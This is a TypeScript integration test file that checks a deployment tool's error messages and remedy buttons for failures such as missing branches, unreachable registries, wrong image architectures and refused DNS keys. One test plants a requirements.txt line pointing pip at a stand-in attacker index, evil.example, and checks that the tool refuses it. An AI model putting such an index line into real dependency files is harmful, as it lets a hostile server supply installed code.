import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Json } from '../../surface/api.ts'
import { Floor } from '../deploy/floor.ts'
import { describeInLab } from '../endpoints.ts'
import { armImage } from './arm-image.ts'
import { type FutureRegistry, futureRegistry } from './future-registry.ts'
import { record } from './record.ts'
import { told } from './told.ts'

describeInLab('what goes wrong with code and image has its name, its remedy and a button', (lab) => {
  let floor: Floor
  let future: FutureRegistry

  beforeAll(async () => {
    floor = await Floor.ready(lab)
    future = await futureRegistry('10.214.0.1')
    await armImage(lab.images.odooArm, 'arm64-told')
  }, 120_000)

  afterAll(async () => {
    await future?.stop()
    await floor?.close()
  })

  interface Case {
    name: string
    /** Provoked by these, mended by those. */
    by?: () => Promise<unknown>
    mend?: () => Promise<unknown>
    deploy?: string
    is: string
    text: RegExp
    button: string
  }

  const image = (reference: string) => () => floor.says(`version set 19.0 --image ${reference}`)
  const rightImage = image(lab.images.odoo)
  const repository = (url: string) => () => floor.says(`project configure acme --repo ${url}`)
  const { private: closed, open } = lab.registry

  const cases: Case[] = [
    {
      name: 'the branch is not there',
      deploy: 'deploy acme/staging --branch nowhere',
      is: 'refused: no_such_code',
      text: /no branch nowhere/,
      button: 'instance.configure',
    },
    {
      name: 'the host of the repository wants a login',
      by: async () => {
        floor.git.login = 'somebody:else'
      },
      mend: async () => {
        floor.git.login = null
      },
      is: 'refused: clone_failed',
      text: /Authentication failed for .*git connect/s,
      button: 'git.connect',
    },
    {
      name: 'nobody knows the host of the repository',
      by: () => repository('http://nowhere.lab.test/acme.git')(),
      mend: () => repository(floor.addons.url)(),
      is: 'refused: name_unknown',
      text: /Nobody knows the name nowhere\.lab\.test/,
      button: 'server.check',
    },
    {
      name: 'nobody knows the registry',
      by: image('nowhere.lab.test:5000/odoo:19.0'),
      mend: rightImage,
      is: 'refused: name_unknown',
      text: /Nobody knows the name nowhere\.lab\.test: 10\.214\.0\.\d+ asked.*getent hosts nowhere/s,
      button: 'server.check',
    },
    {
      name: 'the image is not there',
      by: image(`${open}/odoo:nothing`),
      mend: rightImage,
      is: 'refused: image_not_found',
      text: /no image .*odoo:nothing/,
      button: 'version.list',
    },
    {
      name: 'the registry wants a login',
      by: image(`${closed.host}/odoo:19.0`),
      mend: rightImage,
      is: 'refused: registry_login_needed',
      text: /10\.214\.0\.1:5001 asks for a login.*registry add/s,
      button: 'registry.add',
    },
    {
      name: 'the registry refuses our login',
      by: async () => {
        await floor.asks(`registry add closed --host ${closed.host} --username ${closed.username}`, 'not the password')
        await image(`${closed.host}/odoo:19.0`)()
      },
      mend: async () => {
        await floor.says('registry remove closed --confirm yes')
        await rightImage()
      },
      is: 'refused: registry_login_refused',
      text: /10\.214\.0\.1:5001 refused our login.*registry add/s,
      button: 'registry.add',
    },
    {
      name: 'the image is a list without one for this processor',
      by: image(lab.images.odooArmOnly),
      mend: rightImage,
      is: 'refused: image_architecture',
      text: /made for arm64, and 10\.214\.0\.\d+ is amd64/,
      button: 'version.list',
    },
    {
      name: 'the image is a single one for another processor',
      by: image(`${open}/odoo:arm64-told`),
      mend: rightImage,
      is: 'refused: image_architecture',
      text: /made for arm64, and 10\.214\.0\.\d+ is amd64/,
      button: 'version.list',
    },
    {
      name: 'the certificate of the registry is not valid yet',
      by: () => image(`${future.host}/odoo:19.0`)(),
      mend: rightImage,
      is: 'refused: registry_unreachable',
      text: /certificate has expired or is not yet valid: current time.*The clock of the server is wrong\. Perhaps: /s,
      button: 'server.check',
    },
    {
      name: 'there is no Odoo in the image',
      by: image(lab.images.nginx),
      mend: rightImage,
      is: 'image_without_odoo',
      text: /odoo ended with 127: there is no command odoo in this image/,
      button: 'version.list',
    },
  ]

  test.each(cases)('$name', async ({ by, mend, deploy, is, text, button }) => {
    await by?.()
    try {
      const found = await told(floor, deploy)
      expect(found).toMatchObject({ is, text: expect.stringMatching(text) })
      expect(found.buttons).toContain(button)
    } finally {
      await mend?.()
    }
  })

  test('and when all of it is mended, the deploy goes through', async () => {
    floor.addons.write('.gitattributes', '*.psd filter=lfs diff=lfs merge=lfs -text\n')
    floor.addons.write('requirements.txt', '--extra-index-url http://me:secret@evil.example/\n').push('More')
    const pointers = 'acme keeps files in Git LFS, which I do not fetch: of *.psd only the pointers are deployed'
    expect((await floor.says('plan acme/staging')).text).toContain(pointers)
    const lines = (await floor.done('deploy acme/staging')).lines.join('\n')
    expect(lines).toContain(`cloning_repo warning ${pointers}`)
    expect(lines).toContain(
      'installing_dependencies warning Not taken of acme: requirements.txt: --extra-index-url http://evil.example/: options of pip are not taken',
    )
  })

  test('a library that no index has: the one that runs serves on', async () => {
    const { apt, pip } = lab.mirrors
    await floor.says(`platform configure --apt-mirror ${apt} --pip-index ${pip}`)
    await image(lab.images.odooDebian)()
    floor.addons.write('requirements.txt', 'ph-lab-nowhere==9.1\n').push('Nowhere')
    const found = await told(floor, 'deploy acme/staging --no-update')
    expect(found).toMatchObject({ is: 'dependencies_failed', text: expect.stringContaining('ph-lab-nowhere==9.1') })
    expect(found.buttons).toEqual(expect.arrayContaining(['job.retry', 'instance.deploy']))
    expect((await floor.visit('/web/login')).text).toContain('acme_base=')
    floor.addons.write('requirements.txt', '# none\n').push('None')
    await rightImage()
  })

  test('the name server refuses our key: the deploy goes on, and it is said', async () => {
    const { zone, server, keyName, algorithm } = lab.dns
    await floor.says('provider remove lab --confirm yes')
    const wrong = `provider add lab --kind rfc2136 --zone ${zone} --server ${server} --key-name ${keyName} --algorithm ${algorithm}`
    await floor.asks(wrong, Buffer.alloc(32, 'no').toString('base64'))
    const domain = `other-${floor.domain}`
    await floor.says(`instance configure acme/staging --domain ${domain}`)
    // Somebody else makes it: nobody waits here for a name that nobody made.
    await record(lab, domain, floor.server.address)
    floor.addons.write('README.md', 'read me').push('Tell about it')
    const found = await told(floor)
    expect(found.is).toBe('dns_refused')
    expect(found.buttons).toEqual(expect.arrayContaining(['provider.list', 'provider.add']))
    const { body, text } = await floor.says(`job show ${found.number} --stages`)
    expect(text).toContain('The name server refused the change')
    expect(body.data.state).toBe('success')
    const stage = body.data.stages.find(({ id }: Json) => id === 'configuring_dns')
    expect(stage).toMatchObject({
      state: 'warned',
      latest: expect.stringContaining('the secret of the key is another one'),
    })
  })
})
